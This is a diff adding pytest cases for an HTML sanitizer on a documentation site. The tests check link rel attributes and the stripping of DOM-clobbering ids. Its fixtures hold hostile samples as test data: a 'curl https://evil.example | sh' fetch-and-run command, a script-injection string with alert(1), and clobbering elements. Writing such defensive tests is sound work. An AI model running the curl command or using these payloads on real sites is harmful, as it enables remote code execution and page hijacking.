@@ -98,7 +98,11 @@ def test_the_sanitizer_changes_nothing_the_site_s_own_extensions_generate():
                                  extension_configs=config.mdx_configs).convert(EVERY_EXTENSION)
     assert {"input", "label", "svg", "abbr", "details", "kbd", "sup", "table"} <= {
         item[0] for item in _Structure(rendered).items if isinstance(item, tuple)}
-    assert _Structure(sanitize.page_html(rendered)).items == _Structure(rendered).items
+    cleaned = _Structure(sanitize.page_html(rendered)).items
+    links = [item for item in cleaned if isinstance(item, tuple) and item[0] == "a"]
+    assert links and all(("rel", "noopener noreferrer") in attributes for _, attributes in links)
+    assert [(item[0], [a for a in item[1] if a != ("rel", "noopener noreferrer")]) if isinstance(item, tuple) else item
+            for item in cleaned] == _Structure(rendered).items
 
 
 def test_the_sanitizer_keeps_the_hooks_markers():
@@ -166,3 +170,41 @@ def test_a_template_script_matches_what_its_expressions_rendered_and_nothing_els
     assert pattern.fullmatch('\n  go(["es", "ru"], "/x");\n')
     assert not pattern.fullmatch('\n  go("/", "../.."+alert(1)+"/x");\n')
     assert not pattern.fullmatch('\n  go("</script><script>alert(1)", "/x");\n')
+
+
+CLOBBERING = {
+    "config": '<div id="__config">{"search": "evil.js"}</div>',
+    "code copy target": '<pre id="__code_0"><code>curl https://evil.example | sh</code></pre>',
+    "drawer toggle": '<input type="checkbox" id="__drawer">',
+    "palette name": '<input type="radio" name="__palette">',
+    "tab id of another shape": '<input type="radio" id="__tabbed_x">',
+    "line anchor on another tag": '<div id="__codelineno-0-1">x</div>',
+    "spaced": '<p id=" __search ">x</p>',
+    "site id": '<h2 id="related">Related</h2>',
+    "site letter id": '<h2 id="letter-a">A</h2>',
+}
+
+
+@pytest.mark.parametrize("payload", CLOBBERING.values(), ids=CLOBBERING.keys())
+def test_the_page_s_own_html_keeps_no_id_or_name_of_the_theme_or_the_site(payload):
+    cleaned = sanitize.page_html(f"{payload}\n<!-- generated sections -->\n")
+    assert not [a for a in _Structure(cleaned).items if isinstance(a, tuple) for name, _ in a[1] if name in ("id", "name")]
+
+
+def test_the_generated_sections_keep_the_site_s_ids_but_not_the_theme_s():
+    html = ('<h2 id="related">r</h2>\n<!-- generated sections -->\n<h2 id="related">Related</h2>'
+            '<h2 id="letter-a">A</h2><div id="__config">x</div>')
+    assert sanitize.page_html(html) == ('<h2>r</h2>\n<!-- generated sections -->\n<h2 id="related">Related</h2>'
+                                        '<h2 id="letter-a">A</h2><div>x</div>')
+
+
+def test_a_marker_the_page_writes_itself_does_not_make_its_html_generated():
+    html = '<!-- generated sections --><h2 id="related">mine</h2>\n<!-- generated sections -->\n<p>x</p>'
+    assert 'id="related"' not in sanitize.page_html(html)
+
+
+def test_every_link_gets_noopener_noreferrer_and_rel_opener_does_not_survive():
+    cleaned = sanitize.page_html('<a href="https://example.com/" target="_blank" rel="opener">x</a>'
+                                 '<a href="../page/" target="_blank" rel="opener nofollow">y</a>')
+    assert cleaned == ('<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a>'
+                       '<a href="../page/" target="_blank" rel="noopener noreferrer">y</a>')
